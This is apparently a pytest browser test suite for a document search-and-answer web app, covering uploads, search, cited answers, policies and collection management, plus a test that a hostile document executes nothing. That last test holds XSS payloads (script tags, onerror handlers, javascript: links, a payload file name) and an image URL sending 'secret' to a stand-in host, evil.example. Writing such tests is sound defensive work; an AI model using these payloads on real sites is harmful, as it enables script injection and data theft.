# ruff: noqa: F811  (pytest fixtures imported from tests.e2e.browser_fixtures and ui_checks are parameters here)
"""A whole working session in a real browser, in English and in Chinese, and a hostile document that runs nothing.

Given a fresh personal install (``cairn_serve``: web app + in-process worker,
extractive answers), a person whose browser asks for English or Chinese:

* creates a collection; uploads a PDF, a DOCX and a Chinese text and sees
  each reach INDEXED; searches (the collection's scope, and one document);
  asks and opens a citation on the rendered PDF page with its passage
  highlighted; asks a follow-up that only makes sense after the first
  question and gets the right passage; stops an answer while it streams;
  labels a document; previews a platform policy, sees the warning that it
  hides everything from them and saves it only after confirming; renames and
  deletes the collection;
* and a document full of ``<script>``, ``onerror=``, ``javascript:`` links and
  an image on another host, shown in search, the viewer, an answer and the
  audit pages, executes nothing and makes the browser request nothing
  outside the server.

Selectors are ids, data- attributes and roles, never English text, so the
same steps run in both languages.  Screenshots of every screen go to a
temporary folder (printed; ``CAIRN_E2E_SCREENSHOTS`` keeps them).
"""

from __future__ import annotations

import re
from typing import Any

import pytest

from tests.e2e.browser_fixtures import CHROMIUM, CairnServer, cairn_server  # noqa: F401 (fixtures)
from tests.e2e.ui_checks import (
    LANGUAGES,
    chromium,  # noqa: F401 (a fixture)
    expected_lang_prefix,
    new_page,
    screenshot_dir,
    wait_indexed,
)

pytestmark = [
    pytest.mark.slow,
    pytest.mark.skipif(
        not CHROMIUM.exists(), reason=f"{CHROMIUM} is not installed (apt-get install chromium)"
    ),
]

INGEST_TIMEOUT_MS = 90_000
ROW_DONE = (
    "(title) => { const r = [...document.querySelectorAll('tr.doc-row')].find(r => r.dataset.title === title);"
    " return r && ['INDEXED', 'FAILED'].includes(r.dataset.status); }"
)


def _files() -> list[dict[str, Any]]:
    from tests.ingestion.sample_files import make_chinese_text, make_docx, make_pdf

    filler = "\n".join(f"Routine entry {n} of the harbour log." for n in range(30))
    pdf = make_pdf(
        [
            "The harbour office opens at eight. Keepers report there before each shift.",
            "The lighthouse beacon is tested every Thursday at noon by the duty keeper.\n\n"
            + filler,
        ]
    )
    docx = make_docx(
        [
            (1, "Lens care"),
            "The keeper polishes the brass lens every Tuesday at dawn, using a soft chamois cloth and no solvents.",
            "A scratched lens must be reported to the harbour master within two days.",
            (1, "Fog signals"),
            "When visibility drops below one nautical mile the keeper sounds the foghorn twice every ninety seconds.",
        ]
    )
    return [
        {"name": "beacon.pdf", "mimeType": "application/pdf", "buffer": pdf},
        {
            "name": "lens-care.docx",
            "buffer": docx,
            "mimeType": "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
        },
        {"name": "维护须知.txt", "mimeType": "text/plain", "buffer": make_chinese_text()},
    ]


def _ask(page: Any, question: str, turns_before: int) -> str:
    page.fill("#ask-question", question)
    page.locator("#ask-form button[type=submit]").click()
    page.wait_for_function(
        f"() => document.querySelectorAll('#ask-thread .turn').length === {turns_before}"
        " && document.querySelector('#ask-result .citation')",
        timeout=60_000,
    )
    return str(page.locator("#ask-result").inner_text())


@pytest.mark.parametrize("language", LANGUAGES)
def test_a_working_session_from_upload_to_deleting_the_collection(
    cairn_server: CairnServer,
    chromium: Any,
    language: str,
    tmp_path_factory: pytest.TempPathFactory,
) -> None:
    base = cairn_server.url
    shots = screenshot_dir(tmp_path_factory, f"walkthrough-{language}")
    page, watch = new_page(chromium, cairn_server, language)
    name = f"Harbour manuals {language}"

    def shot(screen: str) -> None:
        page.screenshot(path=str(shots / f"{screen}.png"), full_page=True)

    # Given the home page, in the browser's language
    page.goto(f"{base}/")
    assert (
        page.evaluate("document.documentElement.lang")
        .lower()
        .startswith(expected_lang_prefix(language))
    )
    shot("01-home")

    # When a collection is created, it opens
    page.fill("#collection-name", name)
    page.locator("#collection-form button[type=submit]").click()
    page.locator(".card-list a", has_text=name).click()
    page.wait_for_url(re.compile(r"/collections/\d+/$"))
    collection = int(page.evaluate("document.getElementById('main').dataset.collectionId"))
    shot("02-collection-empty")

    # When a PDF, a DOCX and a Chinese text are uploaded, each reaches INDEXED
    files = _files()
    page.set_input_files("#upload-input", files=files)
    for file in files:
        page.wait_for_function(ROW_DONE, arg=file["name"], timeout=INGEST_TIMEOUT_MS)
        row = page.locator(f'tr.doc-row[data-title="{file["name"]}"]')
        assert row.get_attribute("data-status") == "INDEXED", (
            file["name"],
            cairn_server.log_tail(),
        )
    shot("03-indexed")

    # Search: the collection's passages, then with a filter (file type: plain text, i.e. the Chinese document)
    page.fill("#search-query", "维护窗口")
    page.locator("#search-form button[type=submit]").click()
    first = page.locator("#search-results .result").first
    first.wait_for()
    assert "维护" in first.locator(".result__text").first.inner_text()
    shot("04-search")
    chinese_id = int(
        page.locator('tr.doc-row[data-title="维护须知.txt"]').get_attribute("data-id") or 0
    )
    page.locator("#search-filters > summary").click()
    page.select_option("#search-kind", "text")
    page.fill("#search-query", "keeper")
    page.locator("#search-form button[type=submit]").click()
    page.wait_for_url(re.compile(r"[?&]kind=text"))
    page.locator("#search-results .result").first.wait_for()
    found = page.locator("#search-results .result").evaluate_all(
        "items => items.map(item => Number(item.dataset.documentId))"
    )
    assert found and set(found) == {chinese_id}, found
    shot("04b-search-filtered")
    page.locator("#search-clear").click()

    # Ask; a citation opens its passage highlighted on the rendered PDF page
    answer = _ask(page, "When is the lighthouse beacon tested?", 0)
    assert "thursday" in answer.lower(), answer
    shot("05-answer")
    pdf_citation = page.locator(
        "#ask-result .citation", has=page.locator("a.citation__title", has_text="beacon.pdf")
    )
    pdf_citation.first.locator(".citation__open").click()
    viewer = page.locator("#viewer")
    viewer.locator(".viewer__page img").wait_for()
    page.wait_for_function(
        "() => { const i = document.querySelector('#viewer .viewer__page img');"
        " return i && i.complete && i.naturalWidth > 0; }"
    )
    assert "beacon is tested" in viewer.locator("mark.viewer__passage").inner_text()
    assert viewer.locator(".viewer__box").count() >= 1
    shot("06-viewer")
    page.keyboard.press("Escape")
    viewer.wait_for(state="hidden")

    # A follow-up that only makes sense after the first question is answered from the right passage
    page.locator("#ask-new").click()
    _ask(page, "When does the keeper polish the brass lens?", 0)
    follow_up = _ask(page, "And what if it is scratched?", 1).lower()
    assert "harbour master" in follow_up and "lens-care.docx" in follow_up, follow_up
    # ... and its first source is the passage about a scratched lens
    assert "scratched lens" in page.locator("#ask-result .citation").first.inner_text()
    shot("07-follow-up")

    # Stop: the answer's request is held by the test so it is still streaming; Stop aborts it
    held: list[Any] = []
    page.route("**/api/v1/conversations/*/messages", lambda route: held.append(route))
    page.fill("#ask-question", "How often does the foghorn sound?")
    page.locator("#ask-form button[type=submit]").click()
    page.locator("#ask-stop").wait_for(state="visible")
    page.wait_for_function(
        "() => document.querySelector('#ask-result [aria-busy], #ask-result[aria-busy]')"
    )
    page.locator("#ask-stop").click()
    page.locator('#ask-result [data-role="stopped"]').wait_for()
    page.locator("#ask-stop").wait_for(state="hidden")
    assert len(held) == 1  # the one answer request, which never got a response
    shot("08-stopped")
    page.unroute("**/api/v1/conversations/*/messages")
    for route in held:
        try:
            route.abort()
        except Exception:  # noqa: BLE001 (the browser already cancelled it)
            pass

    # The document page: label the DOCX (typed attributes), saved and shown again
    docx_id = page.locator('tr.doc-row[data-title="lens-care.docx"]').get_attribute("data-id")
    page.goto(f"{base}/documents/{docx_id}/")
    page.fill("#attr-name-1", "sensitivity")
    page.fill("#attr-value-1", "internal")
    page.fill("#attr-name-2", "departments")
    page.select_option("#attr-type-2", "text-list")
    page.fill("#attr-value-2", "harbour, fleet")
    page.locator('[data-action="save-attributes"]').click()
    page.locator('[data-role="messages"]').wait_for()
    assert page.request.get(f"{base}/api/v1/documents/{docx_id}/attributes").json()[
        "attributes"
    ] == {"departments": ["harbour", "fleet"], "sensitivity": "internal"}
    shot("09-document-attributes")

    # The platform policy: previewed, a warning that it hides everything from me, saved only once confirmed
    page.goto(f"{base}/settings/access/")
    page.fill("#platform-policy", "user.clearance >= doc.sensitivity")
    page.locator('[data-action="preview-policy"]').click()
    page.locator('[data-role="hides-everything"]').wait_for()
    shot("10-policy-preview")
    page.locator('[data-action="save-policy"]').click()
    page.locator('[data-role="confirm-required"]').wait_for()
    assert page.request.get(f"{base}/api/v1/admin/policy").json()["policy"] == ""
    shot("11-policy-warning")
    page.locator('[data-role="confirm"]').check()
    page.locator('[data-action="save-policy"]').click()
    page.locator('[data-role="messages"]').wait_for()
    assert (
        page.request.get(f"{base}/api/v1/admin/policy").json()["policy"]
        == "user.clearance >= doc.sensitivity"
    )
    page.goto(f"{base}/collections/{collection}/")
    page.locator(
        '[data-role="hidden-by-policy"]'
    ).wait_for()  # the empty state says why nothing shows
    shot("12-hidden-by-policy")
    page.goto(f"{base}/settings/access/")
    page.fill("#platform-policy", "")
    page.locator('[data-action="save-policy"]').click()
    page.locator('[data-role="messages"]').wait_for()
    assert page.request.get(f"{base}/api/v1/admin/policy").json()["policy"] == ""

    # Rename, then delete the collection (confirming)
    page.goto(f"{base}/collections/{collection}/")
    page.locator('[data-role="manage-collection"] summary').click()
    page.fill("#rename-name", f"{name} (old)")
    page.locator("#rename-form button[type=submit]").click()
    page.wait_for_function(
        "(n) => document.querySelector('h1').textContent.trim() === n", arg=f"{name} (old)"
    )
    shot("13-renamed")
    watch.expect_dialogs = 1
    page.locator('[data-role="manage-collection"] summary').click()
    page.locator('[data-action="delete-collection"]').click()
    page.wait_for_url(f"{base}/")
    assert page.locator(".card-list a", has_text=name).count() == 0
    shot("14-deleted")

    assert len(watch.dialogs) == 1 and not watch.errors and not watch.foreign, (
        watch.dialogs,
        watch.errors,
        watch.foreign,
    )
    page.context.close()
    print(f"walkthrough ({language}) screenshots in {shots}")


XSS_DOCUMENT = b"""# Visitor notice

The visitor desk closes at five <script>alert(1)</script> every weekday.

<img src=x onerror=alert(1)> Visitors sign the register at the visitor desk.

[the visitor register](javascript:alert(1)) is kept at the visitor desk.

![x](https://evil.example/?q=secret) Visitor badges are returned at the visitor desk.
"""


def test_a_hostile_document_runs_nothing_and_requests_nothing_outside_the_server(
    cairn_server: CairnServer, chromium: Any, tmp_path_factory: pytest.TempPathFactory
) -> None:
    import requests

    base = cairn_server.url
    shots = screenshot_dir(tmp_path_factory, "xss")
    collection = requests.post(
        f"{base}/api/v1/collections", json={"name": "Front desk"}, timeout=30
    ).json()["id"]
    # The parser drops the document's raw HTML; its file name keeps the markup, shown as the title everywhere
    uploaded = requests.post(
        f"{base}/api/v1/collections/{collection}/documents",
        timeout=60,
        files={"file": ("<img src=x onerror=alert(1)>.md", XSS_DOCUMENT, "text/markdown")},
    ).json()
    wait_indexed(cairn_server, uploaded["id"])

    page, watch = new_page(chromium, cairn_server, "en")
    page.goto(f"{base}/collections/{collection}/")
    page.fill("#search-query", "visitor desk")
    page.locator("#search-form button[type=submit]").click()
    page.locator("#search-results .result").first.wait_for()
    page.screenshot(path=str(shots / "search.png"), full_page=True)

    _ask(page, "When does the visitor desk close?", 0)
    page.screenshot(path=str(shots / "answer.png"), full_page=True)
    page.locator("#ask-result a.cite-ref").first.click()
    page.locator("#viewer .viewer__passage").wait_for()
    page.screenshot(path=str(shots / "viewer.png"), full_page=True)
    page.keyboard.press("Escape")

    page.goto(f"{base}/documents/{uploaded['id']}/")
    page.screenshot(path=str(shots / "document.png"), full_page=True)

    page.goto(f"{base}/audit/?action=kb.ask")
    page.locator("tr.audit-row").first.wait_for()
    page.screenshot(path=str(shots / "audit-list.png"), full_page=True)
    page.locator("tr.audit-row").first.get_by_role("link").first.click()
    page.locator("#event-detail").wait_for()
    page.screenshot(path=str(shots / "audit-event.png"), full_page=True)
    page.goto(f"{base}/audit/?action=document.upload")
    page.locator("tr.audit-row").first.get_by_role("link").first.click()
    page.locator("#event-detail").wait_for()

    # Nothing ran, nothing left the server, and the markup is shown as text, never as elements
    page.wait_for_timeout(300)
    assert watch.dialogs == [] and watch.foreign == [] and watch.errors == [], (
        watch.dialogs,
        watch.foreign,
        watch.errors,
    )
    for url in (
        f"{base}/collections/{collection}/",
        f"{base}/documents/{uploaded['id']}/",
    ):
        page.goto(url)
        assert (
            page.locator("main script, main img[src='x'], main a[href^='javascript']").count() == 0
        )
    assert (
        page.locator("h1").inner_text() == "<img src=x onerror=alert(1)>.md"
    )  # text, not an element
    assert watch.dialogs == [] and watch.foreign == [] and watch.errors == []
    page.context.close()
